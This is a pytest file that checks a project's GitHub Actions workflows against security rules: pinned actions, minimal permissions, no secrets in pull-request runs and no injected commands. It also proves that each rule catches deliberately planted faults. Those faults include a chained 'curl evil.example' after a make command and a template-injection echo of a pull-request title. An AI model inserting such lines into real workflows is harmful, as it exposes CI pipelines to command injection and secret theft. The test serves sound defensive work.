"""The workflows of GitHub: what they may do, run and see. Each rule has a planted fault that it must find."""

import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import Any

import pytest
import yaml

PROJECT = Path(__file__).parents[2]
WORKFLOWS = PROJECT / ".github" / "workflows"
MADE = set(re.findall(r"^([a-z-]+):", (PROJECT / "Makefile").read_text(), re.MULTILINE))
TARGETS = MADE | {"publish", "rollback"}
DEPLOYER = {"pages": "write", "id-token": "write"}
"""What the only job that writes may do."""


@dataclass(frozen=True)
class Workflow:
    """A workflow as text and as data."""

    name: str
    text: str

    @cached_property
    def data(self) -> dict[str, Any]:
        # BaseLoader: YAML 1.1 would read the key `on` as true.
        loaded: dict[str, Any] = yaml.load(self.text, yaml.BaseLoader)
        return loaded

    @property
    def jobs(self) -> dict[str, dict[str, Any]]:
        return self.data["jobs"]

    @property
    def events(self) -> set[str]:
        on = self.data["on"]
        return {on} if isinstance(on, str) else set(on)

    def steps(self) -> Iterator[tuple[str, dict[str, Any]]]:
        for name, job in self.jobs.items():
            for step in job.get("steps", ()):
                yield name, step

    def plant(self, old: str, new: str) -> "Workflow":
        assert old in self.text
        return Workflow(self.name, self.text.replace(old, new))


def read(name: str) -> Workflow:
    return Workflow(name, (WORKFLOWS / name).read_text("utf-8"))


ALL = [read(path.name) for path in sorted(WORKFLOWS.iterdir())]


def check_commands(workflow: Workflow) -> Iterator[str]:
    """A step calls a make target, or an action; nothing is put into a command but by the environment."""
    for job, step in workflow.steps():
        if "run" not in step:
            continue
        command = re.fullmatch(r'make ([a-z-]+)(?: (?:TARGET|ARGS)=(?:"[^"`\\{}]*"|[a-z:.-]+))*', step["run"])
        if command is None or command[1] not in TARGETS:
            yield f"{job}: {step['run']}"


def check_pins(workflow: Workflow) -> Iterator[str]:
    """An action is named by a commit, with its version as comment; a workflow of our own by its path."""
    for used in re.findall(r"\buses: *(.*)", workflow.text):
        own = re.match(r"\./(\.github/workflows/[a-z]+\.yml)(?= |$)", used)
        if own and (PROJECT / own[1]).is_file():
            continue
        if not re.fullmatch(r"[a-z-]+(/[a-z-]+)+@[0-9a-f]{40} # v\d+\.\d+\.\d+", used):
            yield used


def check_permissions(workflow: Workflow) -> Iterator[str]:
    """Nothing is permitted for all; a job may read; only the one that deploys to Pages may write, and runs no code."""
    if workflow.data.get("permissions") != {}:
        yield "permissions of the whole workflow"
    for name, job in workflow.jobs.items():
        granted = job.get("permissions")
        steps = job.get("steps", [])
        deploys = len(steps) == 1 and steps[0].get("uses", "").startswith("actions/deploy-pages@")
        if granted != (DEPLOYER if deploys else {"contents": "read"}):
            yield f"{name}: {granted}"


def check_verdict(workflow: Workflow) -> Iterator[str]:
    """The last job always runs and needs every other; only jobs with a condition of their own may be skipped."""
    jobs = dict(workflow.jobs)
    verdict = jobs.pop("verdict", None)
    if verdict is None:
        yield "no verdict"
        return
    needs = verdict["needs"]
    if verdict.get("if") != "always()" or set(needs) != set(jobs) or len(needs) != len(jobs):
        yield f"verdict: if {verdict.get('if')}, needs {needs}"
    environment = verdict["steps"][-1].get("env", {})
    if verdict["steps"][-1].get("run") != "make verdict" or environment.get("NEEDS") != "${{ toJSON(needs) }}":
        yield "verdict: does not judge"
    for name in may_skip(workflow):
        if name not in jobs or "if" not in jobs[name] or name in ("build", "check", "test"):
            yield f"verdict: {name} may be skipped"


def may_skip(workflow: Workflow) -> set[str]:
    """The jobs that MAY_SKIP can name: the words an expression gives, not those it compares with."""
    written = workflow.jobs["verdict"]["steps"][-1].get("env", {}).get("MAY_SKIP", "")
    return set(re.findall(r"(?:&&|\|\|) '([a-z]+)'", written))


def check_secrets(workflow: Workflow) -> Iterator[str]:
    """Secrets belong to an environment, and to workflows that no pull request starts."""
    for event in workflow.events & {"pull_request_target", "workflow_run", "issue_comment", "issues"}:
        yield f"starts by {event}"
    if "inherit" in workflow.text:
        yield "hands secrets on"
    for name, job in workflow.jobs.items():
        if "secrets." in str(job) and ("environment" not in job or "pull_request" in workflow.events):
            yield f"{name}: secrets"


def check_prudence(workflow: Workflow) -> Iterator[str]:
    """A job has a limit of time and a named system; a checkout leaves no token; nobody cancels a deployment."""
    for name, job in workflow.jobs.items():
        if "uses" not in job and not ("timeout-minutes" in job and re.fullmatch(r"ubuntu-\d+\.\d+", job["runs-on"])):
            yield f"{name}: timeout, system"
        if "environment" in job:
            concurrency = job.get("concurrency") or workflow.data["concurrency"]
            if concurrency["cancel-in-progress"] != "false":
                yield f"{name}: may be cancelled"
    for name, step in workflow.steps():
        options = step.get("with", {})
        if "actions/checkout@" in step.get("uses", "") and options.get("persist-credentials") != "false":
            yield f"{name}: leaves a token"


def check_uploads(workflow: Workflow) -> Iterator[str]:
    """What is uploaded of the site holds .well-known, which the actions leave out unless told otherwise."""
    for name, step in workflow.steps():
        is_site = "upload" in step.get("uses", "") and step["with"]["path"] != "report.html"
        if is_site and step["with"].get("include-hidden-files") != "true":
            yield f"{name}: {step['with']['path']}"


def check_caches(workflow: Workflow) -> Iterator[str]:
    """No workflow that a pull request starts writes a cache."""
    for name, step in workflow.steps():
        if re.match(r"actions/cache(/save)?@", step.get("uses", "")) and "pull_request" in workflow.events:
            yield f"{name}: cache"


RULES: dict[Callable[[Workflow], Iterator[str]], dict[str, Workflow]] = {
    check_commands: {
        "a command": read("check.yml").plant("run: make test", "run: pytest"),
        "a command after make": read("check.yml").plant("run: make test", "run: make test && curl evil.example"),
        "an expression in a command": read("publish.yml").plant('"$TARGET"', '"${{ vars.PUBLISH_SSH }}"'),
        "no such target": read("check.yml").plant("run: make test", "run: make tests"),
    },
    check_pins: {
        "a tag": read("check.yml").plant("@3d3c42e5aac5ba805825da76410c181273ba90b1 #", "@v7 #"),
        "no version": read("check.yml").plant(" # v7.0.1", ""),
        "a part of a commit": read("check.yml").plant("@3d3c42e5aac5ba805825da76410c181273ba90b1", "@3d3c42e"),
        "a workflow that is not there": read("publish.yml").plant("workflows/check.yml", "workflows/chek.yml"),
    },
    check_permissions: {
        "all for all": read("check.yml").plant("permissions: {}", "permissions: write-all"),
        "a job that writes": read("publish.yml").plant("contents: read", "contents: write"),
        "a job without a word": read("nightly.yml").plant(
            "    permissions:\n      contents: read # to check the code out\n", ""
        ),
        "code in the job that may write": read("publish.yml").plant(
            "      - id: deploy\n", "      - run: make build\n      - id: deploy\n"
        ),
    },
    check_verdict: {
        "none": read("check.yml").plant("  verdict:\n", "  verdikt:\n"),
        "a job left out": read("publish.yml").plant("[check, build, pages, server,", "[check, build, pages,"),
        "not always": read("check.yml").plant("    if: always()\n", ""),
        "does not judge": read("check.yml").plant("run: make verdict", "run: make help"),
        "a job that must run": read("publish.yml").plant("&& 'pages' ||", "&& 'build' ||"),
        "a job that is not there": read("publish.yml").plant("&& 'pages' ||", "&& 'page' ||"),
    },
    check_secrets: {
        "in a pull request": read("check.yml").plant("BASE: ${{ github.base_ref }}", "KEY: ${{ secrets.KEY }}"),
        "by a pull request": read("publish.yml").plant("  push:\n", "  pull_request:\n  push:\n"),
        "with the rights of main": read("check.yml").plant("  pull_request:\n", "  pull_request_target:\n"),
        "after a pull request": read("publish.yml").plant("  push:\n", "  workflow_run:\n  push:\n"),
        "without an environment": read("rollback.yml").plant("    environment: server\n", ""),
        "handed on": read("publish.yml").plant("    name: check\n", "    name: check\n    secrets: inherit\n"),
    },
    check_prudence: {
        "no limit": read("check.yml").plant("    timeout-minutes: 30\n", ""),
        "any system": read("check.yml").plant("ubuntu-24.04", "ubuntu-latest"),
        "a token left": read("check.yml").plant("persist-credentials: false", "persist-credentials: true"),
        "a deployment cancelled": read("publish.yml").plant("cancel-in-progress: false", "cancel-in-progress: true"),
    },
    check_uploads: {"no hidden files": read("publish.yml").plant("          include-hidden-files: true\n", "")},
    check_caches: {
        "by a pull request": read("check.yml").plant(
            "      - run: make test\n", "      - uses: actions/cache/save@0 # v0\n      - run: make test\n"
        )
    },
}


@pytest.mark.parametrize("workflow", ALL, ids=lambda workflow: workflow.name)
@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.__name__)
def test_a_workflow_keeps_every_rule(rule: Callable[[Workflow], Iterator[str]], workflow: Workflow) -> None:
    assert list(rule(workflow)) == []


PLANTED = [(rule, fault, planted) for rule, faults in RULES.items() for fault, planted in faults.items()]


@pytest.mark.parametrize(
    ("rule", "planted"),
    [(rule, planted) for rule, _, planted in PLANTED],
    ids=[f"{rule.__name__}-{fault}" for rule, fault, _ in PLANTED],
)
def test_a_planted_fault_is_found(rule: Callable[[Workflow], Iterator[str]], planted: Workflow) -> None:
    assert list(rule(planted))


def test_there_are_the_workflows_that_are_wanted() -> None:
    assert [workflow.name for workflow in ALL] == ["check.yml", "nightly.yml", "publish.yml", "rollback.yml"]


def test_an_action_is_pinned_alike_everywhere() -> None:
    pins: dict[str, set[str]] = {}
    for workflow in ALL:
        for action, pin in re.findall(r"uses: ([a-z-]+/[a-z-]+)(?:/[a-z-]+)*@(.*)", workflow.text):
            pins.setdefault(action, set()).add(pin)
    assert {action: found for action, found in pins.items() if len(found) > 1} == {}
    assert len(pins) == 7


def test_each_target_may_be_skipped_and_nothing_else() -> None:
    assert {workflow.name: may_skip(workflow) for workflow in ALL} == {
        "check.yml": {"report"},
        "nightly.yml": set(),
        "publish.yml": {"pages", "server", "storage"},
        "rollback.yml": set(),
    }


@pytest.mark.parametrize("name", ["check.yml", "publish.yml"])
def test_a_job_may_be_skipped_exactly_when_its_own_condition_says_no(name: str) -> None:
    workflow = read(name)
    written = workflow.jobs["verdict"]["steps"][-1]["env"]["MAY_SKIP"]
    found = re.findall(r"([a-z_.]+|[a-z]+\.[A-Z_0-9]+) (==|!=) ('[a-z_]*') && '([a-z]+)' \|\| ''", written)
    assert {job for *_, job in found} == may_skip(workflow)
    for subject, sign, value, job in found:
        opposite = {"==": "!=", "!=": "=="}[sign]
        assert re.search(rf"(^|&& ){re.escape(f'{subject} {opposite} {value}')}( }}}})?$", workflow.jobs[job]["if"]), (
            job
        )


def test_main_is_published_only_after_the_checks_and_with_its_history() -> None:
    publish = read("publish.yml").data
    assert publish["on"]["push"] == {"branches": ["main"]}
    assert publish["concurrency"] == {"group": "publish", "cancel-in-progress": "false"}
    jobs = publish["jobs"]
    assert jobs["check"]["uses"] == "./.github/workflows/check.yml"
    assert jobs["build"]["needs"] == "check" and "needs.check.result == 'success'" in jobs["build"]["if"]
    for name in ("pages", "server", "storage"):
        assert jobs[name]["needs"] == "build" and "needs.build.result == 'success'" in jobs[name]["if"]
    assert jobs["build"]["steps"][0]["with"]["fetch-depth"] == "0"
    # A rollback waits for the job that publishes there, and that job for it.
    assert read("rollback.yml").data["concurrency"]["group"] == jobs["server"]["concurrency"]["group"]


@pytest.mark.parametrize("name", ["publish", "rollback"])
def test_target_and_options_reach_the_command_as_they_are(name: str) -> None:
    command = ["make", "-n", name, "TARGET=ssh://a@b.example/srv", "ARGS=--lang en"]
    lines = subprocess.run(command, cwd=PROJECT, capture_output=True, text=True).stdout.splitlines()
    wanted = f'macros {name} "ssh://a@b.example/srv" --lang en'
    assert [line for line in lines if "macros" in line] == [f".venv/bin/python -m {wanted}"] * (name in MADE)


def test_the_local_script_runs_what_the_workflow_runs() -> None:
    script = (PROJECT / ".ci/run").read_text().splitlines()
    commands = [line for line in script if line and not line.startswith(("#", "set ", "cd "))]
    assert commands == ["make test"]
    assert "make test" in {step.get("run") for _, step in read("check.yml").steps()}


def run_zizmor(folder: Path) -> subprocess.CompletedProcess[str]:
    """Run it on a folder as `make lint` does on ours."""
    lines = subprocess.run(["make", "-n", "lint"], cwd=PROJECT, capture_output=True, text=True).stdout.splitlines()
    (command,) = [line for line in lines if "zizmor" in line]
    assert command.endswith(" .github")
    words = [*command.split()[:-1], str(folder)]
    return subprocess.run(words, cwd=PROJECT, capture_output=True, text=True, timeout=300)


@pytest.fixture
def copied(tmp_path: Path) -> Path:
    shutil.copytree(PROJECT / ".github", tmp_path / ".github")
    return tmp_path / ".github"


def test_zizmor_finds_nothing(copied: Path) -> None:
    done = run_zizmor(copied)
    assert done.returncode == 0, done.stdout + done.stderr


FAULTS = {
    "unpinned-uses": ("check.yml", "@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7"),
    "template-injection": ("check.yml", "run: make test", "run: echo ${{ github.event.pull_request.title }}"),
    "excessive-permissions": ("check.yml", "permissions: {}", "permissions: write-all"),
    "artipacked": ("check.yml", "persist-credentials: false", "fetch-depth: 1"),
    "dangerous-triggers": ("check.yml", "  pull_request:\n", "  pull_request_target:\n"),
    "does not match expected validation schema": (
        "check.yml",
        "    runs-on: ubuntu-24.04\n",
        "    run-on: ubuntu-24.04\n",
    ),
}


@pytest.mark.parametrize("fault", FAULTS)
def test_zizmor_finds_a_planted_fault(copied: Path, fault: str) -> None:
    name, old, new = FAULTS[fault]
    planted = read(name).plant(old, new)
    (copied / "workflows" / name).write_text(planted.text, "utf-8")
    done = run_zizmor(copied)
    assert done.returncode != 0
    assert fault in done.stdout + done.stderr


def test_dependabot_looks_after_everything_that_is_pinned() -> None:
    updates = yaml.safe_load((PROJECT / ".github" / "dependabot.yml").read_text("utf-8"))["updates"]
    covered: dict[str, set[str]] = {}
    for update in updates:
        folders = update.get("directories") or [update["directory"]]
        covered.setdefault(update["package-ecosystem"], set()).update(folders)
    listed = subprocess.run(["git", "ls-files", "--", "*package.json"], cwd=PROJECT, capture_output=True, text=True)
    folders = {f"/{Path(path).parent.as_posix()}" for path in listed.stdout.splitlines()}
    assert "/tools/node" in folders
    assert folders <= covered["npm"]
    assert covered["github-actions"] == covered["uv"] == {"/"}
    assert all(update["cooldown"]["default-days"] >= 7 for update in updates)
